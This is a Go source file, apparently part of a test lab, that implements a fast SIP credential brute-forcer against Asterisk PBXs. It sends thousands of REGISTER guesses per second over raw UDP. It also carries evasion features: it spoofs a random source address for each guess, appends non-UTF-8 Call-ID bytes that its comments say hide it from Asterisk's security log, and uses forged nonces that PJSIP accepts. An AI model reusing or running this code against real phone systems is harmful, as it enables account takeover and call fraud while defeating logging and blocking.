package lab

import (
	"context"
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/ipv4"
	"golang.org/x/net/ipv6"
	"golang.org/x/sys/unix"
)

// Guesser guesses the password of one account with bare UDP packets: no library, no waiting for
// answers, each guess a REGISTER with a Call-ID of its own. Fill in the fields and call Run.
type Guesser struct {
	Host    *Host
	Account string
	Port    uint16 // of the PBX; 0: 5060
	Rate    int    // guesses per second; up to 10,000 is reasonable
	Most    int    // guesses in all; 0: until the context ends

	// Password gives the guess number i, counted from 0; nil gives wrong ones.
	Password func(i int) string

	// Ask fetches a challenge for each guess from the address that makes it. Otherwise the
	// last nonce seen serves for all, which PJSIP answers and chan_sip does not. A guesser
	// that roves always asks, unless it has a Nonce: one of the PBX is valid for one address.
	Ask bool

	// Nonce is one that the PBX never sent, for all guesses. PJSIP checks them nevertheless, and
	// no address proves itself.
	Nonce string

	// Rove makes every guess from another address of the host's network.
	Rove bool

	// CallIDTail ends every Call-ID. Bytes that are no UTF-8 hide the guesser from Asterisk's
	// events and from its security log.
	CallIDTail string

	// Heard, when it is set, is called for each answer to a guess, on a goroutine of the run.
	Heard func()
}

// Guesses is how guessing went, as the guesser saw it.
type Guesses struct {
	Sent     int         // guesses that went out; challenges that were asked for are not counted
	Answered int         // guesses that were answered, right or wrong
	Status   map[int]int // how many answers there were of each status code
	Found    string      // the password, when a guess was right
	Last     time.Time   // when the last answer came
	Elapsed  time.Duration
}

// patience is how long nothing has to arrive, when no more guesses go out, until answers are
// given up. On a busy machine they come late, but not far between.
const patience = time.Second

// Run guesses until the context ends, Most guesses are made, or a guess is right. That the
// context ends is no error.
func (g Guesser) Run(ctx context.Context) (Guesses, error) {
	if g.Rate <= 0 {
		return Guesses{}, errors.New("guess: the rate must be positive")
	}
	from := g.Host.Source()
	if g.Rove {
		if !g.Host.Network().IsValid() {
			return Guesses{}, fmt.Errorf("guess: %s has no network to rove in", g.Host.Name)
		}
		from = g.Host.Network().Addr()
		g.Ask = g.Nonce == ""
	}
	r := &guessing{Guesser: g, pbx: pbxAt(from), run: token(), over: make(chan struct{})}
	if g.Port != 0 {
		r.pbx = netip.AddrPortFrom(r.pbx.Addr(), g.Port)
	}
	if g.Nonce != "" {
		made := fmt.Sprintf("Digest realm=\"asterisk\",nonce=%q,algorithm=MD5,qop=\"auth\"", g.Nonce)
		r.challenge.Store(&made)
	}
	if err := r.open(from); err != nil {
		return Guesses{}, fmt.Errorf("guess: %w", err)
	}
	listened := make(chan struct{})
	go func() { defer close(listened); r.listen() }()

	start := time.Now()
	err := r.send(ctx)
	elapsed := time.Since(start)
	if err == nil {
		r.linger()
	}
	r.conn.Close()
	<-listened
	r.seen.Sent = int(r.sent.Load())
	r.seen.Elapsed = elapsed
	return r.seen, err
}

// guessing is one run of a guesser: the caller's goroutine sends, another one listens.
type guessing struct {
	Guesser
	pbx  netip.AddrPort
	port uint16
	conn *net.UDPConn
	run  string // in every Call-ID of the run

	sent      atomic.Int64
	answered  atomic.Int64
	responses atomic.Int64           // challenges and answers
	challenge atomic.Pointer[string] // the last one seen
	over      chan struct{}          // closed by the listener when a guess was right
	seen      Guesses                // the listener's until it has ended
}

// open opens the socket: at any address for one that roves, so that each packet can name its own.
func (r *guessing) open(from netip.Addr) error {
	local := from
	if r.Rove {
		local = netip.IPv6Unspecified()
		if from.Is4() {
			local = netip.IPv4Unspecified()
		}
	}
	conn, err := r.Host.ListenUDP(netip.AddrPortFrom(local, 0))
	if err != nil {
		return err
	}
	r.conn, r.port, r.seen.Status = conn, localAddr(conn.LocalAddr()).Port(), make(map[int]int)
	if err := enlarge(conn); err != nil {
		conn.Close()
		return err
	}
	if !r.Rove {
		return nil
	}
	if from.Is4() {
		err = ipv4.NewPacketConn(conn).SetControlMessage(ipv4.FlagDst, true)
	} else {
		err = ipv6.NewPacketConn(conn).SetControlMessage(ipv6.FlagDst, true)
	}
	if err != nil {
		conn.Close()
	}
	return err
}

// enlarge gives the socket room for bursts of answers, beyond the limit for ordinary programs.
func enlarge(conn *net.UDPConn) error {
	raw, err := conn.SyscallConn()
	if err != nil {
		return err
	}
	var set error
	err = raw.Control(func(fd uintptr) {
		set = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUFFORCE, 4<<20)
	})
	return errors.Join(err, set)
}

// send makes guesses at the rate, a millisecond's worth at a time.
func (r *guessing) send(ctx context.Context) error {
	if !r.Ask {
		if err := r.fetchChallenge(ctx); err != nil {
			return err
		}
	}
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	start := time.Now()
	for i := 0; r.Most == 0 || i < r.Most; {
		select {
		case <-ctx.Done():
			return nil
		case <-r.over:
			return nil
		case <-tick.C:
		}
		due := int(time.Since(start).Seconds() * float64(r.Rate))
		for ; i < due && (r.Most == 0 || i < r.Most) && ctx.Err() == nil; i++ {
			if err := r.guess(i); err != nil {
				return err
			}
		}
	}
	return nil
}

// guess makes the guess number i, or asks for the challenge to it.
func (r *guessing) guess(i int) error {
	from := r.Host.Source()
	if r.Rove {
		from = anyOf(r.Host.Network())
	}
	if r.Ask {
		return r.write(r.register(i, from, ""), from)
	}
	r.sent.Add(1)
	return r.write(r.register(i, from, *r.challenge.Load()), from)
}

// probe is the number of a guess nobody makes, for the first challenge.
const probe = math.MaxInt

// fetchChallenge asks until the PBX answers with a challenge.
func (r *guessing) fetchChallenge(ctx context.Context) error {
	from := r.Host.Source()
	for r.challenge.Load() == nil {
		if err := r.write(r.register(probe, from, ""), from); err != nil {
			return err
		}
		for range 50 {
			if r.challenge.Load() != nil {
				return nil
			}
			select {
			case <-ctx.Done():
				return fmt.Errorf("guess: no challenge: %w", ErrNoAnswer)
			case <-time.After(10 * time.Millisecond):
			}
		}
	}
	return nil
}

// register makes the REGISTER of guess i from an address; with a challenge it carries the guess.
func (r *guessing) register(i int, from netip.Addr, challenge string) []byte {
	const ask, guess = "1 REGISTER", "2 REGISTER"
	at, uri := uriHost(from), "sip:"+uriHost(r.pbx.Addr())
	address := fmt.Sprintf("<sip:%s@%s>", r.Account, uriHost(r.pbx.Addr()))
	id := fmt.Sprintf("%d-%s", i, r.run)
	m := request("REGISTER", uri,
		header{"Via", fmt.Sprintf("SIP/2.0/UDP %s:%d;rport;branch=z9hG4bK%s-%d", at, r.port, id, len(challenge))},
		header{"Max-Forwards", "70"},
		header{"From", address + ";tag=" + id},
		header{"To", address},
		header{"Call-ID", id + r.CallIDTail},
		header{"CSeq", ask},
		header{"Contact", fmt.Sprintf("<sip:%s@%s:%d>", r.Account, at, r.port)},
		header{"Expires", "60"})
	if challenge != "" {
		m.headers[5].value = guess
		m.add("Authorization", credentials{r.Account, r.password(i)}.answer(challenge, "REGISTER", uri))
	}
	return m.bytes()
}

func (r *guessing) password(i int) string {
	if r.Password == nil {
		return "wrong-" + strconv.Itoa(i)
	}
	return r.Password(i)
}

// write sends a packet; one that roves names the source.
func (r *guessing) write(b []byte, from netip.Addr) error {
	var control []byte
	if r.Rove && from.Is4() {
		control = (&ipv4.ControlMessage{Src: from.AsSlice()}).Marshal()
	} else if r.Rove {
		control = (&ipv6.ControlMessage{Src: from.AsSlice()}).Marshal()
	}
	_, _, err := r.conn.WriteMsgUDPAddrPort(b, control, r.pbx)
	return err
}

// listen takes answers until the socket is closed.
func (r *guessing) listen() {
	buf, control := make([]byte, 64<<10), make([]byte, 256)
	for {
		n, c, _, _, err := r.conn.ReadMsgUDPAddrPort(buf, control)
		if errors.Is(err, net.ErrClosed) || errors.Is(err, os.ErrDeadlineExceeded) {
			return
		}
		if err != nil {
			continue
		}
		if m, err := parseMessage(buf[:n]); err == nil && !m.isRequest() {
			r.heard(m, destination(control[:c], r.Host.Source()))
		}
	}
}

// heard takes one response, which came to the address at.
func (r *guessing) heard(m *message, at netip.Addr) {
	code, _ := m.status()
	number, run, _ := strings.Cut(strings.TrimSuffix(m.get("Call-ID"), r.CallIDTail), "-")
	i, err := strconv.Atoi(number)
	if err != nil || code < 200 || run != r.run {
		return
	}
	r.responses.Add(1)
	challenge := m.get("WWW-Authenticate")
	if challenge != "" && r.Nonce == "" {
		r.challenge.Store(&challenge)
	}
	if strings.HasPrefix(m.get("CSeq"), "1 ") {
		if r.Ask && challenge != "" {
			r.sent.Add(1)
			_ = r.write(r.register(i, at, challenge), at) // counted as sent, and as lost by the PBX
		}
		return
	}
	r.answered.Add(1)
	r.seen.Answered++
	r.seen.Status[code]++
	r.seen.Last = time.Now()
	if r.Heard != nil {
		r.Heard()
	}
	if code == 200 && r.seen.Found == "" {
		r.seen.Found = r.password(i)
		close(r.over)
	}
}

// linger gives answers under way the time to arrive, ten times patience at most.
func (r *guessing) linger() {
	const step = patience / 20
	end, quiet, before := time.Now().Add(10*patience), time.Duration(0), r.responses.Load()
	for quiet < patience && time.Now().Before(end) {
		if sent := r.sent.Load(); r.answered.Load() == sent && (!r.Ask || r.Most > 0 && sent >= int64(r.Most)) {
			return
		}
		time.Sleep(step)
		quiet += step
		if now := r.responses.Load(); now != before {
			before, quiet = now, 0
		}
	}
}

// destination is the address a packet was sent to, from its control messages, or otherwise.
func destination(control []byte, otherwise netip.Addr) netip.Addr {
	var m6 ipv6.ControlMessage
	if m6.Parse(control) == nil && m6.Dst != nil {
		a, _ := netip.AddrFromSlice(m6.Dst)
		return a
	}
	var m4 ipv4.ControlMessage
	if m4.Parse(control) == nil && m4.Dst != nil {
		a, _ := netip.AddrFromSlice(m4.Dst)
		return a.Unmap()
	}
	return otherwise
}

// anyOf picks an address within p.
func anyOf(p netip.Prefix) netip.Addr {
	bytes := p.Addr().AsSlice()
	for i := range bytes {
		host := 0xff // the bits of this byte that p leaves open
		if open := p.Bits() - 8*i; open >= 8 {
			host = 0
		} else if open > 0 {
			host = 0xff >> open
		}
		bytes[i] |= byte(rand.IntN(256) & host)
	}
	a, _ := netip.AddrFromSlice(bytes)
	return a
}
